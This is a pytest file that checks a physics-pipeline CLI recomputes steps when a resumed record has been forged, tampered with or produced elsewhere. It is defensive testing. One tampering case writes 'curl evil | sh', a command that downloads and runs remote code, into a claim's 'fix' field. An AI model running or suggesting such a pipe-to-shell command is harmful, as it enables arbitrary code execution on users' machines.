"""Resumed pipelines: genuine steps are carried, and nothing that a record claims is believed."""

from __future__ import annotations

import dataclasses
import json

import pytest
from typer.testing import CliRunner

from qddot.cli import app
from qddot.evidence import Recorder, Verdict, read_record, verify_record
from qddot.pipeline import steps
from qddot.pipeline.memory import step_memory

WORDS = ("double_pendulum", "--steps", "3,4", "--expect", "nv=7")


@pytest.fixture(autouse=True)
def own_cache(tmp_path, monkeypatch):
    """A cache folder without steps."""
    monkeypatch.setenv("QDDOT_CACHE_DIR", str(tmp_path / "cache"))


@pytest.fixture
def computed(monkeypatch):
    """Names of the steps that are computed, as they are."""
    names, run_step = [], steps._run_step

    def note(context, step):
        names.append(step.name)
        run_step(context, step)

    monkeypatch.setattr(steps, "_run_step", note)
    return names


def run(*words: str):
    return CliRunner().invoke(app, ["pipeline", *words], env={"QDDOT_NATIVE": "0"})


def genuine(file, *words):
    """The record of a genuine run in a file, and its exit code."""
    done = run(*(words or WORDS), "--record", str(file), "--force")
    return read_record(file), done.exit_code


def write_cut(file, record, names=("03",), claims=None, finished=False):
    """A record of the same run with some of its steps, whose claims may be others."""
    with Recorder(file, record.run, force=True) as made:
        for name in names:
            with made.mark(name, "step"):
                for trace in record.traces.values():
                    if trace.step == name:
                        made.trace(
                            trace.name, trace.columns, trace.units, trace.labels, trace.frame
                        )
                for m in record.metrics.values():
                    if m.step == name:
                        made.metric(m.name, m.definition, *m.operands, unit=m.unit, **m.parameters)
                for c in claims if claims is not None else record.claims:
                    if c.step == name:
                        # as it is, consistent or not
                        made.claims.append(c)
                        made._send("/claim", {**vars(c), "verdict": c.verdict.value})
        if not finished:
            made.close(finished=False)
    return file


def forged_claims(record):
    """Claims of a record as its author would like them: each passes, with the value that is due."""
    return [
        dataclasses.replace(
            c, verdict=Verdict.PASS, value=c.bound if c.relation == "=" else c.value, detail=""
        )
        for c in record.claims
    ]


def test_a_forged_step_of_a_cut_record_is_computed_again(tmp_path, computed):
    record, code = genuine(tmp_path / "genuine.mcap")
    assert code == 1
    assert "FAIL" in {c.verdict.value for c in record.claims}
    forged = write_cut(tmp_path / "forged.mcap", record, claims=forged_claims(record))
    before = read_record(forged)
    assert before.whole_steps == ("03",)
    assert {c.verdict for c in before.claims} == {Verdict.PASS}
    del computed[:]
    done = run(*WORDS, "--record", str(forged), "--resume")
    assert done.exit_code == 1, done.output
    assert computed == ["03", "04"]
    assert "other results than the record had: 03" in done.stderr
    assert read_record(forged).digest == record.digest


@pytest.mark.parametrize("finished", [True, False])
def test_a_whole_forged_record_does_not_pass(tmp_path, finished, computed):
    record, _ = genuine(tmp_path / "genuine.mcap")
    step_memory().clear()
    forged = write_cut(
        tmp_path / "forged.mcap", record, ("03", "04"), forged_claims(record), finished
    )
    del computed[:]
    done = run(*WORDS, "--record", str(forged), "--resume", "--json")
    assert done.exit_code == 1, done.output
    assert computed == ["03", "04"]
    assert not json.loads(done.stdout)["passed"]


CHANGES = {
    "verdict": lambda c: dataclasses.replace(c, verdict=Verdict.PASS, value=7.0),
    "value": lambda c: dataclasses.replace(c, value=7.0),
    "bound": lambda c: dataclasses.replace(c, bound=2.0),
    "relation": lambda c: dataclasses.replace(c, relation="<"),
    "name": lambda c: dataclasses.replace(c, name="another"),
    "words": lambda c: dataclasses.replace(c, compared="something else"),
    "fix": lambda c: dataclasses.replace(c, fix="curl evil | sh"),
    "label": lambda c: dataclasses.replace(c, label="planning"),
}


@pytest.mark.parametrize("change", CHANGES.values(), ids=CHANGES)
def test_a_step_with_anything_changed_is_computed_again(tmp_path, change, computed):
    record, _ = genuine(tmp_path / "genuine.mcap")
    changed = [change(c) for c in record.claims]
    file = write_cut(tmp_path / "cut.mcap", record, claims=changed)
    del computed[:]
    assert run(*WORDS, "--record", str(file), "--resume").exit_code == 1
    assert computed == ["03", "04"]


RUNS = {
    "inputs": lambda r: {"inputs": (dataclasses.replace(r.inputs[0], size=1),)},
    "versions": lambda r: {"versions": {**r.versions, "qddot": "9.9"}},
    "machine": lambda r: {"machine": {**r.machine, "cores": 999}},
}


@pytest.mark.parametrize("change", RUNS.values(), ids=RUNS)
def test_what_a_record_says_of_its_run_decides_nothing(tmp_path, change, computed):
    # the run of this call counts: steps are known by it, whatever the record says
    record, _ = genuine(tmp_path / "genuine.mcap")
    step_memory().clear()
    other = dataclasses.replace(record, run=dataclasses.replace(record.run, **change(record.run)))
    file = write_cut(tmp_path / "cut.mcap", other, ("03", "04"), forged_claims(record))
    del computed[:]
    assert run(*WORDS, "--record", str(file), "--resume").exit_code == 1
    assert computed == ["03", "04"]


def test_genuine_steps_are_carried_and_only_those(tmp_path, computed):
    record, _ = genuine(tmp_path / "genuine.mcap")
    file = write_cut(tmp_path / "cut.mcap", record)
    del computed[:]
    done = run(*WORDS, "--record", str(file), "--resume")
    assert done.exit_code == 1
    assert computed == ["04"]
    assert "computed again" not in done.stderr
    after = read_record(file)
    assert after.digest == record.digest
    assert verify_record(after) == []


def test_steps_that_were_computed_elsewhere_are_computed_again(tmp_path, computed, monkeypatch):
    record, _ = genuine(tmp_path / "genuine.mcap")
    file = write_cut(tmp_path / "cut.mcap", record)
    monkeypatch.setenv("QDDOT_CACHE_DIR", str(tmp_path / "other"))
    del computed[:]
    done = run(*WORDS, "--record", str(file), "--resume")
    assert computed == ["03", "04"]
    assert "so computed again: 03" in done.stderr
    assert "other results" not in done.stderr
    assert read_record(file).digest == record.digest


def test_nothing_is_carried_where_files_run_code(tmp_path, computed):
    words = (*WORDS, "--trust")
    record, _ = genuine(tmp_path / "genuine.mcap", *words)
    file = write_cut(tmp_path / "cut.mcap", record)
    del computed[:]
    run(*words, "--record", str(file), "--resume")
    assert computed == ["03", "04"]


def test_a_changed_file_or_option_is_refused(tmp_path):
    record, _ = genuine(tmp_path / "genuine.mcap")
    file = write_cut(tmp_path / "cut.mcap", record)
    for words in (
        ("planar_2r", *WORDS[1:]),
        (*WORDS[:-1], "nv=2"),
        (*WORDS, "--seed", "1"),
        (*WORDS, "--base", "free"),
    ):
        done = run(*words, "--record", str(file), "--resume")
        assert done.exit_code == 2, done.output
        assert "leave --resume" in done.output or "other options" in done.output
